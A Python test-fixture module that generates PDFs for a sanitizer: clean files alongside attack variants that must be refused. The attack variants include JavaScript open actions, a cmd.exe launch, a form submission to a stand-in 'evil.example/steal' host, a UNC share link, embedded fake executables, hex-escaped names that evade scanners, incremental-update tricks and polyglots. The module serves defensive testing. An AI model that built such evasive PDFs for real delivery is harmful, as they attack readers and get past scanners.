"""A small corpus of PDFs: clean ones that must pass and attacks that must be refused.

Each attack is written the way an attacker would: with pikepdf (so the file is valid and
only the active part is wrong), or as raw bytes with ``#xx``-escaped names, object streams,
incremental updates, a truncated file or a JPEG/PDF polyglot.
"""

from __future__ import annotations

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

CHINESE_TEXT = "汇爱：欺凌事件说明"


def clean_chinese_pdf() -> bytes:
    """A one-page PDF with Chinese text, as reportlab (and our certificates) write them."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4)
    page.setAuthor("张三 Secret Author")
    page.setFont("STSong-Light", 14)
    page.drawString(72, 760, CHINESE_TEXT)
    page.showPage()
    page.save()
    return buffer.getvalue()


def _with(change, **save) -> bytes:
    """The clean PDF after ``change(pdf)``, saved by pikepdf."""
    with pikepdf.open(io.BytesIO(clean_chinese_pdf())) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, **save)
        return out.getvalue()


def _js(code: str = "app.alert('pwned')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _annotation(pdf, **entries):
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 100, 100]), **entries))
    page = pdf.pages[0]
    page.obj.Annots = pdf.make_indirect(Array([annot]))


def open_action_javascript() -> bytes:
    return _with(lambda pdf: setattr(pdf.Root, "OpenAction", _js()))


def page_additional_action() -> bytes:
    return _with(lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=_js())))


def annotation_additional_action() -> bytes:
    return _with(lambda pdf: _annotation(pdf, Subtype=Name.Widget, AA=Dictionary(E=_js())))


def link_launch() -> bytes:
    return _with(lambda pdf: _annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))))


def link_javascript_uri() -> bytes:
    return _with(
        lambda pdf: _annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))
    )


def link_remote_goto() -> bytes:
    return _with(
        lambda pdf: _annotation(
            pdf, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0]))
        )
    )


def submit_form() -> bytes:
    return _with(
        lambda pdf: _annotation(
            pdf, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/steal"))
        )
    )


def names_javascript_tree() -> bytes:
    def change(pdf):
        script = pdf.make_indirect(_js())
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))

    return _with(change)


def embedded_file() -> bytes:
    def change(pdf):
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 a program")

    return _with(change)


def file_attachment_annotation() -> bytes:
    def change(pdf):
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="x.exe")
        _annotation(pdf, Subtype=Name.FileAttachment, FS=spec.obj)

    return _with(change)


def rich_media() -> bytes:
    return _with(lambda pdf: _annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary()))


def xfa_form() -> bytes:
    def change(pdf):
        xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)

    return _with(change)


def form_field_with_action() -> bytes:
    def change(pdf):
        field = pdf.make_indirect(
            Dictionary(
                FT=Name.Tx,
                T=String("name"),
                Type=Name.Annot,
                Subtype=Name.Widget,
                Rect=Array([0, 0, 9, 9]),
                AA=Dictionary(K=_js()),
            )
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    return _with(change)


def javascript_in_object_stream() -> bytes:
    """The action sits compressed inside an object stream: no ``/JavaScript`` in the raw bytes."""

    def change(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(_js())

    return _with(change, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def _raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A hand-written PDF with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _raw_with_catalog(catalog_extra: bytes, more: list[bytes] = ()) -> bytes:
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
            *more,
        ]
    )


def raw_plain() -> bytes:
    return _raw_with_catalog(b"")


def hex_escaped_javascript() -> bytes:
    return _raw_with_catalog(b"/OpenAction 4 0 R", [b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"])


def hex_escaped_open_action() -> bytes:
    return _raw_with_catalog(b"/Op#65nAction << /S /#4Aava#53cript /JS (app.alert(1)) >>")


def hex_escaped_additional_action() -> bytes:
    return _raw_with_catalog(b"/#41A << /O << /S /JavaScript /JS (1) >> >>")


def incremental_update_with_javascript() -> bytes:
    """A clean file, then an update that replaces the catalog with one that runs a script."""
    base = raw_plain()
    previous_xref = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    update = bytearray(base)
    offset = len(update)
    update += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R "
    update += b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n"
    xref = len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % offset
    update += b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous_xref, xref)
    return bytes(update)


def truncated() -> bytes:
    data = clean_chinese_pdf()
    return data[: len(data) // 2]


def no_cross_reference_table() -> bytes:
    """Starts with %PDF- and ends with %%EOF, but is no PDF (the old check stored it)."""
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (32, 32), (10, 200, 10)).save(buffer, format="JPEG")
    return buffer.getvalue()


def polyglot_jpeg_pdf() -> bytes:
    return _jpeg() + open_action_javascript()


def polyglot_pdf_then_html() -> bytes:
    return clean_chinese_pdf() + b"<html><script>alert(1)</script></html>"


def password_protected() -> bytes:
    return _with(lambda pdf: None, encryption=pikepdf.Encryption(user="secret", owner="secret"))


ATTACKS = {
    "openaction-javascript": open_action_javascript,
    "page-aa": page_additional_action,
    "annotation-aa": annotation_additional_action,
    "launch": link_launch,
    "javascript-uri": link_javascript_uri,
    "gotor": link_remote_goto,
    "submitform": submit_form,
    "names-javascript": names_javascript_tree,
    "embedded-file": embedded_file,
    "fileattachment-annotation": file_attachment_annotation,
    "richmedia": rich_media,
    "xfa": xfa_form,
    "form-field-aa": form_field_with_action,
    "javascript-in-object-stream": javascript_in_object_stream,
    "hex-javascript": hex_escaped_javascript,
    "hex-openaction": hex_escaped_open_action,
    "hex-aa": hex_escaped_additional_action,
    "incremental-update": incremental_update_with_javascript,
    "truncated": truncated,
    "no-xref": no_cross_reference_table,
    "polyglot-jpeg-pdf": polyglot_jpeg_pdf,
    "polyglot-pdf-html": polyglot_pdf_then_html,
    "password": password_protected,
}


def open_at_page() -> bytes:
    """``/OpenAction [page /Fit]``: where to open, as LibreOffice writes it. Not an action."""
    return _with(lambda pdf: setattr(pdf.Root, "OpenAction", Array([pdf.pages[0].obj, Name.Fit])))


def web_link() -> bytes:
    return _with(
        lambda pdf: _annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.example.cn/")))
    )


def owner_password_only() -> bytes:
    """Encrypted against editing, but opens without a password: checked and stored decrypted."""
    return _with(lambda pdf: None, encryption=pikepdf.Encryption(user="", owner="owner-secret"))


CLEAN = {
    "chinese-text": clean_chinese_pdf,
    "open-at-page": open_at_page,
    "web-link": web_link,
    "owner-password-only": owner_password_only,
    "hand-written": raw_plain,
}
